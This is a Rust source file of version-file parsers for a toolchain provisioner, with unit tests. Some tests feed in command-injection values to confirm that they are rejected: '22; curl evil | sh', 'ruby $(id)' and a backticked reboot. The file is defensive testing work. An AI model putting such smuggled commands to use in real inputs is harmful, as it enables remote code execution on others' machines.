//! One parser per kind of version file. Each takes the file's text and returns
//! what it asks for; none touches the filesystem, so each is tested (and
//! fuzzable) on its own. Everything returned has passed [`Version`]'s grammar.

use crate::{Tool, Version};

/// One thing a file asks for: `tool` at `version`, found under `key` (such as
/// `engines.node`), or at the file's top level when `key` is empty.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    pub tool: Tool,
    pub version: Version,
    pub key: String,
    /// The download's digest the file pins, as it wrote it
    /// (`packageManager`'s `sha512.HEX`).
    pub digest: Option<String>,
}

/// Something in a file that sandpen did not take, with the line when there is
/// one. These become warnings in the plan; a bad file never stops a run.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Skipped {
    #[error("line {line}: {text:?} is not a version sandpen accepts")]
    BadVersion { line: usize, text: String },
    #[error("line {line}: sandpen does not provision {name:?}")]
    UnknownTool { line: usize, name: String },
    #[error("{0}")]
    Syntax(String),
    #[error("{key}: {text:?} is not a version sandpen accepts")]
    BadValue { key: String, text: String },
    #[error("{key} is not honoured yet ({why})")]
    NotHonoured { key: String, why: &'static str },
}

/// What one file gave: the requests and what was skipped.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Parsed {
    pub found: Vec<Found>,
    pub skipped: Vec<Skipped>,
}

impl Parsed {
    fn push(&mut self, tool: Tool, version: Version, key: impl Into<String>) {
        self.found.push(Found {
            tool,
            version,
            key: key.into(),
            digest: None,
        });
    }
}

/// The first line that is not blank and not a `#` comment, with its number.
fn first_line(text: &str) -> Option<(usize, &str)> {
    text.lines()
        .enumerate()
        .map(|(n, l)| (n + 1, l.split('#').next().unwrap_or("").trim()))
        .find(|(_, l)| !l.is_empty())
}

/// `.nvmrc` and `.node-version`: `22`, `v22.11.0`, `lts/*`, `lts/iron`,
/// `node` or `stable` (the newest).
pub fn node_version_file(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let Some((line, raw)) = first_line(text) else {
        return out;
    };
    let lower = raw.to_ascii_lowercase();
    let version = match lower.as_str() {
        "node" | "stable" | "latest" | "current" => Version::channel("latest"),
        "lts/*" | "lts" => Version::channel("lts"),
        l if l.starts_with("lts/") => Version::channel(l),
        _ => Version::pinned(raw.strip_prefix(['v', 'V']).unwrap_or(raw)),
    };
    match version {
        Some(v) => out.push(Tool::Node, v, ""),
        None => out.skipped.push(Skipped::BadVersion {
            line,
            text: raw.into(),
        }),
    }
    out
}

/// `.python-version` (pyenv): one version per line, the first is used;
/// `system` means the image's own and asks for nothing.
pub fn python_version_file(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let Some((line, raw)) = first_line(text) else {
        return out;
    };
    if raw == "system" {
        return out;
    }
    match Version::pinned(raw) {
        Some(v) => out.push(Tool::Python, v, ""),
        None => out.skipped.push(Skipped::BadVersion {
            line,
            text: raw.into(),
        }),
    }
    out
}

/// `.ruby-version`: `3.3.0` or `ruby-3.3.0`.
pub fn ruby_version_file(text: &str) -> Parsed {
    single_line(text, Tool::Ruby, &["ruby-"])
}

/// `.java-version` (jenv): `21`, `17.0`, `temurin-21`.
pub fn java_version_file(text: &str) -> Parsed {
    single_line(text, Tool::Java, &[])
}

fn single_line(text: &str, tool: Tool, prefixes: &[&str]) -> Parsed {
    let mut out = Parsed::default();
    let Some((line, raw)) = first_line(text) else {
        return out;
    };
    let bare = prefixes
        .iter()
        .find_map(|p| raw.strip_prefix(p))
        .unwrap_or(raw);
    match Version::pinned(bare) {
        Some(v) => out.push(tool, v, ""),
        None => out.skipped.push(Skipped::BadVersion {
            line,
            text: raw.into(),
        }),
    }
    out
}

/// `.tool-versions` (asdf, mise): `TOOL VERSION [FALLBACK...]` per line; the
/// first version of a line is used.
pub fn tool_versions(text: &str) -> Parsed {
    let mut out = Parsed::default();
    for (n, line) in text.lines().enumerate() {
        let line = line.split('#').next().unwrap_or("").trim();
        let mut words = line.split_whitespace();
        let (Some(name), Some(version)) = (words.next(), words.next()) else {
            continue;
        };
        let Some(tool) = Tool::from_manager_name(name) else {
            out.skipped.push(Skipped::UnknownTool {
                line: n + 1,
                name: name.into(),
            });
            continue;
        };
        if version == "system" {
            continue;
        }
        match Version::from_manager(version) {
            Some(v) => out.push(tool, v, name),
            None => out.skipped.push(Skipped::BadVersion {
                line: n + 1,
                text: version.into(),
            }),
        }
    }
    out
}

/// `mise.toml` (and `.mise.toml`, `.config/mise.toml`): the `[tools]` table.
/// A value is `"22"`, `["22", "20"]` (the first is used) or
/// `{ version = "22", … }`.
pub fn mise_toml(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let Some(doc) = parse_toml(text, &mut out) else {
        return out;
    };
    let Some(tools) = doc.get("tools").and_then(|t| t.as_table_like()) else {
        return out;
    };
    for (name, item) in tools.iter() {
        let key = format!("tools.{name}");
        let Some(tool) = Tool::from_manager_name(name) else {
            out.skipped.push(Skipped::NotHonoured {
                key,
                why: "not a toolchain sandpen provisions",
            });
            continue;
        };
        let text = if let Some(s) = item.as_str() {
            Some(s)
        } else if let Some(a) = item.as_array() {
            a.get(0).and_then(|v| v.as_str())
        } else if let Some(t) = item.as_table_like() {
            t.get("version").and_then(|v| v.as_str())
        } else {
            None
        };
        match text.and_then(Version::from_manager) {
            Some(v) => out.push(tool, v, key),
            None => out.skipped.push(Skipped::BadValue {
                key,
                text: text.unwrap_or("(not a string)").into(),
            }),
        }
    }
    out
}

/// `rust-toolchain.toml` (`[toolchain] channel = …`) or the older
/// `rust-toolchain` (the channel alone on a line, or the same TOML).
pub fn rust_toolchain(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let looks_like_toml = text.contains('[') || text.contains('=');
    if !looks_like_toml {
        let Some((line, raw)) = first_line(text) else {
            return out;
        };
        match rust_channel(raw) {
            Some(v) => out.push(Tool::Rust, v, ""),
            None => out.skipped.push(Skipped::BadVersion {
                line,
                text: raw.into(),
            }),
        }
        return out;
    }
    let Some(doc) = parse_toml(text, &mut out) else {
        return out;
    };
    let Some(table) = doc.get("toolchain").and_then(|t| t.as_table_like()) else {
        out.skipped
            .push(Skipped::Syntax("no [toolchain] table".into()));
        return out;
    };
    if let Some(item) = table.get("channel") {
        let text = item.as_str().unwrap_or("(not a string)");
        match rust_channel(text) {
            Some(v) => out.push(Tool::Rust, v, "toolchain.channel"),
            None => out.skipped.push(Skipped::BadValue {
                key: "toolchain.channel".into(),
                text: text.into(),
            }),
        }
    }
    for key in ["components", "targets", "profile", "path"] {
        if table.get(key).is_some() {
            out.skipped.push(Skipped::NotHonoured {
                key: format!("toolchain.{key}"),
                why: "only the channel is provisioned",
            });
        }
    }
    out
}

fn rust_channel(raw: &str) -> Option<Version> {
    match raw {
        "stable" | "beta" | "nightly" => Version::channel(raw),
        _ => Version::pinned(raw),
    }
}

/// `go.mod`: `toolchain goX.Y.Z` is the toolchain the module wants; without
/// it, `go X.Y[.Z]` (the minimum Go, which since Go 1.21 is also the minimum
/// toolchain) is used as the version.
pub fn go_mod(text: &str) -> Parsed {
    let mut out = Parsed::default();
    for (n, line) in text.lines().enumerate() {
        let line = line.split("//").next().unwrap_or("").trim();
        let mut words = line.split_whitespace();
        let (Some(word), Some(value), None) = (words.next(), words.next(), words.next()) else {
            continue;
        };
        let (key, raw) = match word {
            "go" => ("go", value),
            "toolchain" if value == "default" => continue,
            "toolchain" => ("toolchain", value.strip_prefix("go").unwrap_or(value)),
            _ => continue,
        };
        match Version::pinned(raw) {
            Some(v) => out.push(Tool::Go, v, key),
            None => out.skipped.push(Skipped::BadVersion {
                line: n + 1,
                text: value.into(),
            }),
        }
    }
    out
}

/// A `packageManager` digest, `ALGORITHM.HEX` (sha1, sha224, sha256 or
/// sha512, as corepack takes): the algorithm and the digest's bytes.
pub fn package_digest(text: &str) -> Option<(&str, Vec<u8>)> {
    let (algorithm, hex) = text.split_once('.')?;
    let bytes = match algorithm {
        "sha1" => 20,
        "sha224" => 28,
        "sha256" => 32,
        "sha512" => 64,
        _ => return None,
    };
    if hex.len() != bytes * 2 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
        return None;
    }
    let digest = (0..bytes)
        .map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16))
        .collect::<Result<Vec<u8>, _>>()
        .ok()?;
    Some((algorithm, digest))
}

/// `package.json`: `engines.node`, `engines.pnpm`, `engines.yarn` (ranges) and
/// `packageManager` (`pnpm@9.1.0+sha512.…`, corepack's pin).
pub fn package_json(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let json: serde_json::Value = match serde_json::from_str(text) {
        Ok(v) => v,
        Err(e) => {
            out.skipped.push(Skipped::Syntax(e.to_string()));
            return out;
        }
    };
    if let Some(engines) = json.get("engines").and_then(|e| e.as_object()) {
        for (name, tool) in [
            ("node", Tool::Node),
            ("pnpm", Tool::Pnpm),
            ("yarn", Tool::Yarn),
        ] {
            let Some(value) = engines.get(name) else {
                continue;
            };
            let key = format!("engines.{name}");
            let text = value.as_str().unwrap_or("(not a string)");
            match Version::range(text) {
                Some(v) => out.push(tool, v, key),
                None => out.skipped.push(Skipped::BadValue {
                    key,
                    text: text.into(),
                }),
            }
        }
    }
    if let Some(value) = json.get("packageManager") {
        let text = value.as_str().unwrap_or("(not a string)");
        let (name, rest) = text.split_once('@').unwrap_or((text, ""));
        // The `+sha512.HEX` suffix pins the package's tarball (corepack's
        // check, which provisioning makes too).
        let (version, digest) = match rest.split_once('+') {
            Some((version, digest)) => (version, Some(digest)),
            None => (rest, None),
        };
        let tool = match name {
            "pnpm" => Some(Tool::Pnpm),
            "yarn" => Some(Tool::Yarn),
            // npm comes with Node.
            "npm" => None,
            _ => {
                out.skipped.push(Skipped::BadValue {
                    key: "packageManager".into(),
                    text: text.into(),
                });
                None
            }
        };
        if let Some(tool) = tool {
            match (Version::pinned(version), digest.map(package_digest)) {
                (Some(version), None | Some(Some(_))) => out.found.push(Found {
                    tool,
                    version,
                    key: "packageManager".into(),
                    digest: digest.map(str::to_string),
                }),
                _ => out.skipped.push(Skipped::BadValue {
                    key: "packageManager".into(),
                    text: text.into(),
                }),
            }
        }
    }
    out
}

/// `pyproject.toml`: `project.requires-python` (PEP 621), else Poetry's
/// `tool.poetry.dependencies.python`.
pub fn pyproject(text: &str) -> Parsed {
    let mut out = Parsed::default();
    let Some(doc) = parse_toml(text, &mut out) else {
        return out;
    };
    let pep621 = doc
        .get("project")
        .and_then(|p| p.get("requires-python"))
        .map(|v| ("project.requires-python", v));
    let poetry = doc
        .get("tool")
        .and_then(|t| t.get("poetry"))
        .and_then(|p| p.get("dependencies"))
        .and_then(|d| d.get("python"))
        .map(|v| ("tool.poetry.dependencies.python", v));
    if let Some((key, item)) = pep621.or(poetry) {
        let text = item.as_str().unwrap_or("(not a string)");
        match Version::range(text) {
            Some(v) => out.push(Tool::Python, v, key),
            None => out.skipped.push(Skipped::BadValue {
                key: key.into(),
                text: text.into(),
            }),
        }
    }
    out
}

/// `.sdkmanrc`: `java=21.0.2-tem` lines; other SDKs are named as skipped.
pub fn sdkmanrc(text: &str) -> Parsed {
    let mut out = Parsed::default();
    for (n, line) in text.lines().enumerate() {
        let line = line.split('#').next().unwrap_or("").trim();
        let Some((name, version)) = line.split_once('=') else {
            continue;
        };
        let (name, version) = (name.trim(), version.trim());
        if name != "java" {
            out.skipped.push(Skipped::UnknownTool {
                line: n + 1,
                name: name.into(),
            });
            continue;
        }
        match Version::pinned(version) {
            Some(v) => out.push(Tool::Java, v, "java"),
            None => out.skipped.push(Skipped::BadVersion {
                line: n + 1,
                text: version.into(),
            }),
        }
    }
    out
}

/// The TOML document, or `None` with its syntax error (on one line) in `out`.
fn parse_toml(text: &str, out: &mut Parsed) -> Option<toml_edit::DocumentMut> {
    text.parse::<toml_edit::DocumentMut>()
        .map_err(|e| out.skipped.push(Skipped::Syntax(one_line(&e.to_string()))))
        .ok()
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn only(p: Parsed) -> (Tool, String, String) {
        assert!(p.skipped.is_empty(), "skipped: {:?}", p.skipped);
        assert_eq!(p.found.len(), 1, "{:?}", p.found);
        let f = p.found.into_iter().next().unwrap();
        (f.tool, f.version.to_string(), f.key)
    }

    #[test]
    fn nvmrc_forms() {
        assert_eq!(only(node_version_file("v22.11.0\n")).1, "22.11.0");
        assert_eq!(only(node_version_file("# pinned\n22\n")).1, "22");
        assert_eq!(only(node_version_file("lts/*")).1, "lts");
        assert_eq!(only(node_version_file("lts/iron")).1, "lts/iron");
        assert_eq!(only(node_version_file("node")).1, "latest");
        assert!(node_version_file("\n\n").found.is_empty());
        let bad = node_version_file("22; curl evil | sh");
        assert!(bad.found.is_empty());
        assert!(matches!(
            bad.skipped[0],
            Skipped::BadVersion { line: 1, .. }
        ));
    }

    #[test]
    fn python_ruby_java_files() {
        assert_eq!(
            only(python_version_file("3.12.7\n3.11\n")),
            (Tool::Python, "3.12.7".into(), "".into())
        );
        assert!(python_version_file("system").found.is_empty());
        assert_eq!(only(ruby_version_file("ruby-3.3.0")).1, "3.3.0");
        assert_eq!(only(java_version_file("temurin-21\n")).1, "temurin-21");
    }

    #[test]
    fn tool_versions_lines() {
        let p = tool_versions(
            "nodejs 20.11.1 18\npython 3.12.7 # comment\nterraform 1.7.0\n\ngolang 1.22.1\nruby $(id)\n",
        );
        let got: Vec<_> = p
            .found
            .iter()
            .map(|f| (f.tool, f.version.to_string()))
            .collect();
        assert_eq!(
            got,
            [
                (Tool::Node, "20.11.1".to_string()),
                (Tool::Python, "3.12.7".to_string()),
                (Tool::Go, "1.22.1".to_string())
            ]
        );
        assert_eq!(
            p.skipped,
            [
                Skipped::UnknownTool {
                    line: 3,
                    name: "terraform".into()
                },
                Skipped::BadVersion {
                    line: 6,
                    text: "$(id)".into()
                }
            ]
        );
    }

    #[test]
    fn mise_toml_tools_table() {
        let p = mise_toml(
            "[env]\nX = \"1\"\n[tools]\nnode = \"22\"\npython = [\"3.12\", \"3.11\"]\nrust = { version = \"1.88\", profile = \"minimal\" }\n\"npm:prettier\" = \"3\"\ngo = 5\n",
        );
        let got: Vec<_> = p
            .found
            .iter()
            .map(|f| (f.tool, f.version.to_string(), f.key.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                (Tool::Node, "22".to_string(), "tools.node"),
                (Tool::Python, "3.12".to_string(), "tools.python"),
                (Tool::Rust, "1.88".to_string(), "tools.rust"),
            ]
        );
        assert_eq!(p.skipped.len(), 2, "{:?}", p.skipped);
        assert!(mise_toml("[tools\n").skipped[0]
            .to_string()
            .contains("line 1"));
    }

    #[test]
    fn rust_toolchain_both_forms() {
        assert_eq!(
            only(rust_toolchain("[toolchain]\nchannel = \"1.88.0\"\n")),
            (Tool::Rust, "1.88.0".into(), "toolchain.channel".into())
        );
        assert_eq!(
            only(rust_toolchain("nightly-2024-05-01\n")).1,
            "nightly-2024-05-01"
        );
        assert_eq!(only(rust_toolchain("stable")).1, "stable");
        let p = rust_toolchain("[toolchain]\nchannel = \"1.88\"\ncomponents = [\"clippy\"]\n");
        assert_eq!(p.found.len(), 1);
        assert_eq!(
            p.skipped[0].to_string(),
            "toolchain.components is not honoured yet (only the channel is provisioned)"
        );
    }

    #[test]
    fn go_mod_toolchain_then_go() {
        let p = go_mod("module x\n\ngo 1.22 // min\n\ntoolchain go1.22.3\nrequire (\n  a v1\n)\n");
        let got: Vec<_> = p
            .found
            .iter()
            .map(|f| (f.version.to_string(), f.key.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                ("1.22".to_string(), "go"),
                ("1.22.3".to_string(), "toolchain")
            ]
        );
    }

    #[test]
    fn package_json_engines_and_package_manager() {
        let digest = format!("sha512.{}", "ab".repeat(64));
        let p = package_json(&format!(
            r#"{{"engines": {{"node": ">=20 <23", "npm": ">=10"}}, "packageManager": "pnpm@9.1.0+{digest}"}}"#,
        ));
        let got: Vec<_> = p
            .found
            .iter()
            .map(|f| (f.tool, f.version.to_string(), f.key.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                (Tool::Node, ">=20 <23".to_string(), "engines.node"),
                (Tool::Pnpm, "9.1.0".to_string(), "packageManager"),
            ]
        );
        assert_eq!(p.found[1].digest.as_deref(), Some(digest.as_str()));
        assert_eq!(p.found[0].digest, None);
        // A digest corepack would not take is no pin at all: the whole
        // statement is skipped, never taken without its check.
        for bad in [
            "pnpm@9.1.0+sha512.abc",
            "pnpm@9.1.0+md5.0123456789abcdef0123456789abcdef",
            "pnpm@9.1.0+sha1.zz23456789abcdef0123456789abcdef01234567",
            "pnpm@9.1.0+",
        ] {
            let p = package_json(&format!(r#"{{"packageManager": "{bad}"}}"#));
            assert!(p.found.is_empty() && p.skipped.len() == 1, "{bad}");
        }
        let sha1 = package_json(
            r#"{"packageManager": "yarn@1.22.22+sha1.ac34549e6aa8e7ead463a7407e1c7390f61a6610"}"#,
        );
        assert_eq!(sha1.found.len(), 1);
        assert!(package_json("{").skipped[0].to_string().contains("line 1"));
        let bad = package_json(r#"{"engines": {"node": "`reboot`"}}"#);
        assert!(bad.found.is_empty() && bad.skipped.len() == 1);
    }

    #[test]
    fn pyproject_pep621_then_poetry() {
        assert_eq!(
            only(pyproject(
                "[project]\nname = \"x\"\nrequires-python = \">=3.11\"\n"
            )),
            (
                Tool::Python,
                ">=3.11".into(),
                "project.requires-python".into()
            )
        );
        assert_eq!(
            only(pyproject(
                "[tool.poetry.dependencies]\npython = \"^3.12\"\n"
            ))
            .1,
            "^3.12"
        );
    }

    #[test]
    fn sdkmanrc_lines() {
        let p = sdkmanrc("# sdkman\njava=21.0.2-tem\nmaven=3.9.6\n");
        assert_eq!(p.found[0].version.to_string(), "21.0.2-tem");
        assert_eq!(
            p.skipped,
            [Skipped::UnknownTool {
                line: 3,
                name: "maven".into()
            }]
        );
    }
}
